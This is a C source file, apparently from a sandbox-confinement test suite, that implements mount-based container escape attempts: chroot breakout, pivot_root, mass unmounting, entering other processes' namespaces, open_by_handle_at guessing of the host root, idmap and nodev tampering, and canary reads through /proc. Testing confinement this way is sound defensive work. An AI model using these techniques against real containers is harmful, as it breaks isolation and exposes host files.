// SPDX-License-Identifier: GPL-2.0-or-later
// Attempts by mounts: file systems that show the host, images, flags, and ways out of the root.
#include "escape.h"

#include <dirent.h>
#include <fcntl.h>
#include <limits.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef FSCONFIG_SET_STRING
#define FSCONFIG_SET_STRING 1
#define FSCONFIG_CMD_CREATE 6
#endif
#ifndef OPEN_TREE_CLONE
#define OPEN_TREE_CLONE 1
#endif
#define MOVE_EMPTY_PATH 4 // MOVE_MOUNT_F_EMPTY_PATH

// By the new interface. No user of ours has ever a reason to set options.
static long new_mount(const char *type, const char *source, const char *target) {
        int fs = (int) syscall(SYS_fsopen, type, 0), mnt;

        if (fs < 0)
                return -1;
        if (*source && syscall(SYS_fsconfig, fs, FSCONFIG_SET_STRING, "source", source, 0) < 0)
                return -1;
        if (syscall(SYS_fsconfig, fs, FSCONFIG_CMD_CREATE, NULL, NULL, 0) < 0)
                return -1;
        mnt = (int) syscall(SYS_fsmount, fs, 0, 0);
        return mnt < 0 ? -1 : syscall(SYS_move_mount, mnt, "", AT_FDCWD, target, MOVE_EMPTY_PATH);
}

// ARG: TYPE[:SOURCE]
static int mount_type(const char *arg) {
        char type[64], *source;
        Doors doors = {-ENOTSUP};
        int r = own_mounts();

        if (r < 0)
                return r;
        snprintf(type, sizeof(type), "%s", arg);
        source = strchr(type, ':');
        if (source)
                *source++ = 0;
        door(&doors, "mount", mount(source ?: "none", scratch_dir(), type, 0, NULL));
        door(&doors, "fsopen", new_mount(type, source ?: "none", scratch_dir()));
        return doors.result;
}

static int mount_proc(const char *arg) {
        int r = own_mounts();

        if (r == 0 && geteuid() == 0 && unshare(CLONE_NEWPID) < 0)
                return -errno;
        pid_t pid = r < 0 ? -1 : fork();
        if (pid == 0)
                _exit(mount("proc", scratch_dir(), "proc", 0, NULL) < 0 ? errno : 0);
        int status = 0;
        if (r < 0 || pid < 0 || waitpid(pid, &status, 0) < 0)
                return r < 0 ? r : -errno;
        return -WEXITSTATUS(status);
}

// Device nodes of a template must stay dead: the flag must not come off.
static int remount_dev(const char *arg) {
        Doors doors = {-ENOTSUP};
        struct {
                uint64_t set, clear, propagation, userns;
        } attr = {.clear = 4}; // MOUNT_ATTR_NODEV
        int r = own_mounts();

        if (r < 0)
                return r;
        door(&doors, "remount", mount(NULL, arg, NULL, MS_REMOUNT | MS_BIND, NULL));
        door(&doors, "superblock", mount(NULL, arg, NULL, MS_REMOUNT, NULL));
        door(&doors, "mount_setattr", syscall(SYS_mount_setattr, AT_FDCWD, arg, 0, &attr, sizeof(attr)));
        return doors.result;
}

// An id map of our own on a file system of the host's would make files of any owner.
static int idmap(const char *arg) {
        struct {
                uint64_t set, clear, propagation, userns;
        } attr = {.set = 0x100000}; // MOUNT_ATTR_IDMAP
        int r = own_mounts(), sync[2];

        if (r < 0 || pipe(sync) < 0)
                return r < 0 ? r : -errno;
        pid_t pid = fork();
        if (pid == 0) {
                char byte = own_userns(0) == 0;
                if (write(sync[1], &byte, 1) == 1)
                        sleep(5);
                _exit(0);
        }
        char path[64], byte = 0;
        snprintf(path, sizeof(path), "/proc/%d/ns/user", (int) pid);
        if (read(sync[0], &byte, 1) != 1 || !byte)
                return -ENOTSUP;
        int ns = open(path, O_RDONLY), tree = (int) syscall(SYS_open_tree, AT_FDCWD, arg, OPEN_TREE_CLONE);
        if (ns < 0 || tree < 0)
                return -errno;
        attr.userns = (uint64_t) ns;
        r = result(syscall(SYS_mount_setattr, tree, "", AT_EMPTY_PATH, &attr, sizeof(attr)));
        kill(pid, 9);
        return r;
}

static bool canary_below_processes(const char *canary) {
        DIR *proc = opendir("/proc");
        struct dirent *e;
        bool found = false;
        char path[PATH_MAX];

        while (proc && (e = readdir(proc)) && !found) {
                if (e->d_name[0] < '0' || e->d_name[0] > '9')
                        continue;
                snprintf(path, sizeof(path), "/proc/%s/root%s", e->d_name, canary);
                found = read_canary(path);
                snprintf(path, sizeof(path), "/proc/%s/cwd/../../../../../../..%s", e->d_name, canary);
                found = found || read_canary(path);
        }
        if (proc)
                closedir(proc);
        return found;
}

static int reach(const char *arg) {
        return read_canary(arg) || canary_below_processes(arg) ? 0 : -ENOENT;
}

static int chroot_out(const char *arg) {
        int root = open("/", O_RDONLY | O_DIRECTORY), r = geteuid() == 0 ? 0 : own_userns(0);

        if (r < 0)
                return r;
        if (chroot(scratch_dir()) < 0 || fchdir(root) < 0)
                return -errno;
        for (int i = 0; i < 64; i++)
                if (chdir("..") < 0)
                        return -errno;
        if (chroot(".") < 0)
                return -errno;
        return reach(arg);
}

// Takes away, from the top, whatever lies over something else.
static int umount_all(const char *arg) {
        static char lines[4096][256];
        size_t n = 0;
        int r = own_mounts(), gone = 0;
        FILE *f = fopen("/proc/self/mountinfo", "r");
        char line[4096];

        if (r < 0 || !f)
                return r < 0 ? r : -errno;
        while (n < ELEMENTS(lines) && fgets(line, sizeof(line), f))
                if (sscanf(line, "%*s %*s %*s %*s %255s", lines[n]) == 1)
                        n++;
        fclose(f);
        while (n-- > 0)
                gone += umount2(lines[n], MNT_DETACH) == 0;
        say("%d of the mounts went away", gone);
        if (umount2("/", MNT_DETACH) == 0)
                say("the root too");
        return chdir("/") < 0 ? -errno : reach(arg);
}

static int pivot(const char *arg) {
        char old[PATH_MAX];
        int r = own_mounts();

        if (r < 0)
                return r;
        snprintf(old, sizeof(old), "%s/old", scratch_dir());
        if (mount("none", scratch_dir(), "tmpfs", 0, NULL) < 0 || mkdir(old, 0700) < 0 || syscall(SYS_pivot_root, scratch_dir(), old) < 0)
                return -errno;
        if (chdir("/old") < 0 || chroot(".") < 0)
                return -errno;
        for (int i = 0; i < 64; i++)
                if (chdir("..") < 0)
                        return -errno;
        return reach(arg);
}

// Whatever namespace can be seen is entered.
static int enter_all(const char *arg) {
        static const char *const kinds[] = {"mnt", "pid", "net", "cgroup", "ipc", "uts", "time", "user"};
        DIR *proc = opendir("/proc");
        struct dirent *e;
        int entered = 0;

        while (proc && (e = readdir(proc))) {
                if (e->d_name[0] < '0' || e->d_name[0] > '9')
                        continue;
                for (size_t i = 0; i < ELEMENTS(kinds); i++) {
                        char path[PATH_MAX], ours[64], theirs[64];
                        snprintf(path, sizeof(path), "/proc/%s/ns/%s", e->d_name, kinds[i]);
                        ssize_t n = readlink(path, theirs, sizeof(theirs));
                        snprintf(path, sizeof(path), "/proc/self/ns/%s", kinds[i]);
                        ssize_t m = readlink(path, ours, sizeof(ours));
                        if (n <= 0 || (n == m && memcmp(ours, theirs, (size_t) n) == 0))
                                continue;
                        snprintf(path, sizeof(path), "/proc/%s/ns/%s", e->d_name, kinds[i]);
                        int fd = open(path, O_RDONLY);
                        entered += fd >= 0 && syscall(SYS_setns, fd, 0) == 0;
                        close(fd);
                }
        }
        say("%d other namespaces entered", entered);
        return reach(arg);
}

// The root directory of the host's file system by its number, without a path.
static int handle(const char *arg) {
        struct {
                unsigned size;
                int type;
                unsigned char bytes[128];
        } h = {.size = 128};
        int where = open(arg, O_RDONLY | O_DIRECTORY), id;
        Doors doors = {-ENOTSUP};

        if (syscall(SYS_name_to_handle_at, AT_FDCWD, arg, &h, &id, 0) == 0)
                door(&doors, "own", syscall(SYS_open_by_handle_at, where, &h, O_RDONLY));
        static const unsigned long long roots[] = {2, 128, 256, 64, 96};
        for (size_t i = 0; i < ELEMENTS(roots); i++) {
                memset(&h, 0, sizeof(h));
                h.size = 8;
                h.type = 1;
                memcpy(h.bytes, &roots[i], 4);
                door(&doors, "root", syscall(SYS_open_by_handle_at, where, &h, O_RDONLY));
        }
        return doors.result;
}

// A bind that is read-only must stay so for whoever did not make it.
static int overlay(const char *arg) {
        char data[PATH_MAX], dir[4][PATH_MAX];
        static const char *const names[] = {"l", "u", "w", "m"};
        int r = own_mounts();

        if (r < 0)
                return r;
        if (mount("none", scratch_dir(), "tmpfs", 0, NULL) < 0)
                return -errno;
        for (size_t i = 0; i < ELEMENTS(names); i++) {
                snprintf(dir[i], sizeof(dir[i]), "%s/%s", scratch_dir(), names[i]);
                if (mkdir(dir[i], 0700) < 0)
                        return -errno;
        }
        snprintf(data, sizeof(data), "lowerdir=%.32s,upperdir=%.64s,workdir=%.64s", arg, dir[1], dir[2]);
        return result(mount("none", dir[3], "overlay", 0, data));
}

const Attempt attempts_mount[] = {
        {"mount", mount_type}, {"mount-proc", mount_proc}, {"remount-dev", remount_dev}, {"idmap", idmap},   {"reach", reach},
        {"chroot", chroot_out}, {"umount-all", umount_all}, {"pivot", pivot},            {"enter", enter_all}, {"handle", handle},
        {"overlay", overlay},  {NULL},
};
